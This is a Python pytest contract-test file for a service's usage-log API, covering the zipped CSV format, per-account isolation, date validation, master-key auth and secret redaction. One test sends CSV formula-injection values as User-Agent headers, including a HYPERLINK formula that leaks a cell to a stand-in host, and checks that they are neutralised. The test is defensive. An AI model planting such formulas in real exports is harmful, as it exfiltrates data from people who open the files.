"""Usage logs (docs/API.md §8): GET /v3/l and GET /v3/l/<DD-MM-YYYY>, at both levels. Lines
are filed by UsageLogWriterFunction from the functions' output: at once through the handlers,
a moment later through openbin serve (as on AWS, a few seconds), hence ``eventually``."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest

from openbin_local.emulator import wait_until
from tests.contract.conftest import USERS


def today() -> str:
    return datetime.now(UTC).strftime("%d-%m-%Y")


def eventually(api, call, done, timeout: float = 10.0):
    """``call()``'s reply once ``done(reply)`` holds (usage lines arrive a moment late)."""
    replies = []

    def attempt() -> bool:
        api.settle()
        replies.append(call())
        return done(replies[-1])

    wait_until(attempt, timeout=timeout, step=0.1)
    return replies[-1]


def log_rows(reply) -> list[dict]:
    with zipfile.ZipFile(io.BytesIO(reply.body)) as archive:
        (name,) = archive.namelist()
        assert name == f"{today()}.csv"
        return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def test_no_logs_yet_then_the_days_and_a_days_file(api, owner):
    key = {"X-Master-Key": owner.key}
    first = api.get("/v3/l", key)
    assert (first.status, first.json()) == (404, {"message": "No logs found"})

    bin_id = api.create_bin(owner, USERS, X_Bin_Private="false")
    reader = api.access_key(owner, "read")
    assert api.get(f"/v3/b/{bin_id}", {"X-Access-Key": reader}).status == 200
    assert api.get(f"/v3/b/{bin_id}").status == 200  # keyless: charged to the owner, logged
    refused = api.post("/v3/b", {"x": "y" * 200_000}, {**key, "Content-Type": "application/json"})
    assert refused.status == 403  # over the plan's limit, charged: logged with its status

    days = eventually(api, lambda: api.get("/v3/l", key), lambda r: r.status == 200)
    assert days.json() == {"logs": [today()]}
    assert days.header("X-Requests-Remaining") is not None

    wanted = {"POST /v3/b 200", "GET /v3/b 200 access", "GET /v3/b 200 none", "POST /v3/b 403"}

    def seen(reply) -> set[str]:
        if reply.status != 200:
            return set()
        out = set()
        for row in log_rows(reply):
            path = "/v3/b" if row["path"].startswith("/v3/b") else row["path"]
            kind = "" if row["keyKind"] == "master" else f" {row['keyKind']}"
            out.add(f"{row['method']} {path} {row['status']}{kind}")
        return out

    day = eventually(api, lambda: api.get(f"/v3/l/{today()}", key), lambda r: wanted <= seen(r))
    assert day.header("Content-Type") == "application/zip"
    assert day.header("Content-Disposition") == f'attachment; filename="{today()}.zip"'
    rows = log_rows(day)
    assert list(rows[0]) == [
        "time",
        "method",
        "path",
        "status",
        "binId",
        "collectionId",
        "schemaDocId",
        "accessKeyId",
        "keyKind",
        "sourceIp",
        "userAgent",
        "requestId",
    ]
    reads = [r for r in rows if r["method"] == "GET" and r["binId"] == bin_id]
    by_kind = {r["keyKind"]: r for r in reads}
    assert by_kind["access"]["accessKeyId"]  # which access key, never the key itself
    assert by_kind["none"]["accessKeyId"] == ""
    assert [r["time"] for r in rows] == sorted(r["time"] for r in rows)
    text = day.body + b"".join(
        zipfile.ZipFile(io.BytesIO(day.body)).read(n) for n in [f"{today()}.csv"]
    )
    for secret in (owner.key, reader):
        assert secret.encode() not in text


def test_another_accounts_lines_are_never_visible(api, owner, other):
    bin_id = api.create_bin(owner, USERS)
    key = {"X-Master-Key": other.key}
    api.get("/v3/l", key)  # logged on the other account's own log
    day = eventually(api, lambda: api.get(f"/v3/l/{today()}", key), lambda r: r.status == 200)
    assert all(row["binId"] != bin_id for row in log_rows(day))
    assert all(row["path"] in ("/v3/l", f"/v3/l/{today()}") for row in log_rows(day))


@pytest.mark.parametrize("day", ["2026-12-02", "1-12-2026", "31-02-2026", "today"])
def test_a_date_not_in_dd_mm_yyyy_form_gets_400(api, owner, day):
    reply = api.get(f"/v3/l/{day}", {"X-Master-Key": owner.key})
    assert (reply.status, reply.json()) == (
        400,
        {"message": "The date must be a day in DD-MM-YYYY form"},
    )


def test_a_day_without_a_log_gets_404(api, owner):
    reply = api.get("/v3/l/01-01-2020", {"X-Master-Key": owner.key})
    assert (reply.status, reply.json()) == (404, {"message": "Backup not found for 01-01-2020."})


def test_logs_need_the_master_key(api, owner):
    assert api.get("/v3/l").status == 401
    reader = api.access_key(owner, "read")
    assert api.get("/v3/l", {"X-Access-Key": reader}).status == 401


FORMULAS = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tindented",
]


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(api, owner):
    """A keyless reader of a public bin chooses its User-Agent, which lands in the owner's CSV:
    a cell starting with =, +, -, @, a tab or a carriage return gets a leading ' (OWASP)."""
    key = {"X-Master-Key": owner.key}
    bin_id = api.create_bin(owner, USERS, X_Bin_Private="false")
    for agent in FORMULAS:
        assert api.get(f"/v3/b/{bin_id}", {"User-Agent": agent}).status == 200

    def agents(reply) -> set[str]:
        if reply.status != 200:
            return set()
        return {row["userAgent"] for row in log_rows(reply) if row["keyKind"] == "none"}

    # a header value's surrounding tabs are not part of it (docs/API.md §1): "indented" is
    # logged without its tab (tests/unit/test_validation.py covers the tab and the return)
    expected = {"'" + agent for agent in FORMULAS[:4]} | {"indented"}
    day = eventually(
        api, lambda: api.get(f"/v3/l/{today()}", key), lambda r: len(agents(r)) >= len(FORMULAS)
    )
    assert agents(day) == expected
    for row in log_rows(day):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
